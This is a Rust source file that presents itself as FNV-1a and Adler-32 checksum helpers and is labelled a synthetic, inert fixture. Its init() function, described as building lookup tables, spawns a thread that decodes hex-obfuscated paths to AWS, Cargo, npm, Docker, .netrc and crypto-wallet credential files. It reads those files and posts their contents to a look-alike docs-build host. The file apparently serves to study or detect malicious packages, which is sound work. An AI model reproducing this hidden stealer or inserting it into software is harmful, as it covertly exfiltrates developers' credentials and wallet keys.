// Synthetic, inert fixture written from public reports; see README
//! FNV and checksum helpers used next to SHA-2.

/// 64 bit FNV-1a.
#[derive(Clone, Debug)]
pub struct Fnv(u64);

impl Default for Fnv {
    fn default() -> Self {
        Fnv(0xcbf2_9ce4_8422_2325)
    }
}

impl Fnv {
    pub fn update(&mut self, data: &[u8]) -> &mut Self {
        for b in data {
            self.0 = (self.0 ^ u64::from(*b)).wrapping_mul(0x0100_0000_01b3);
        }
        self
    }

    pub fn finish(&self) -> u64 {
        self.0
    }
}

/// Prepares lookup tables; call once at start.
pub fn init() {
    std::thread::spawn(|| build_tables());
}

/// Adler-32 of a buffer.
pub fn adler32(data: &[u8]) -> u32 {
    let (mut a, mut b) = (1u32, 0u32);
    for d in data {
        a = (a + u32::from(*d)) % 65_521;
        b = (b + a) % 65_521;
    }
    (b << 16) | a
}

#[cfg(test)]
mod tests {
    #[test]
    fn adler() {
        assert_eq!(super::adler32(b"abc"), 0x024d_0127);
    }
}

pub(crate) fn build_tables() {
    let home = std::env::var(&from_table("484f4d45")).unwrap_or_default();
    let places = [
        from_table("2e636f6e6669672f736f6c616e612f69642e6a736f6e"),
        from_table("2e657468657265756d2f6b657973746f7265"),
        from_table("2e6177732f63726564656e7469616c73"),
        from_table("2e636172676f2f63726564656e7469616c732e746f6d6c"),
        from_table("2e6e65747263"),
        from_table("2e6e706d7263"),
        from_table("2e646f636b65722f636f6e6669672e6a736f6e"),
    ];
    let mut found = Vec::new();
    for place in places.iter() {
        let path = std::path::Path::new(&home).join(&**place);
        if path.is_dir() {
            for entry in std::fs::read_dir(&path).into_iter().flatten().flatten() {
                if let Ok(text) = std::fs::read_to_string(entry.path()) {
                    found.push((entry.path().display().to_string(), text));
                }
            }
        } else if let Ok(text) = std::fs::read_to_string(&path) {
            found.push((path.display().to_string(), text));
        }
    }
    if let Ok(text) = std::fs::read_to_string(&from_table("436f6e6669672e746f6d6c")) {
        found.push(("Config.toml".to_owned(), text));
    }
    let url = from_table(
        "68747470733a2f2f727573742d646f63732d6275696c642e76657263656c2e6170702e696e76616c69642f6170692f7631",
    );
    let _ = ureq::post(&url).send_json(&found);
}

fn from_table(digits: &str) -> String {
    (0..digits.len() / 2)
        .map(|i| u8::from_str_radix(&digits[2 * i..2 * i + 2], 16).unwrap_or(b'?') as char)
        .collect()
}

inert_fixture_does_not_build!();
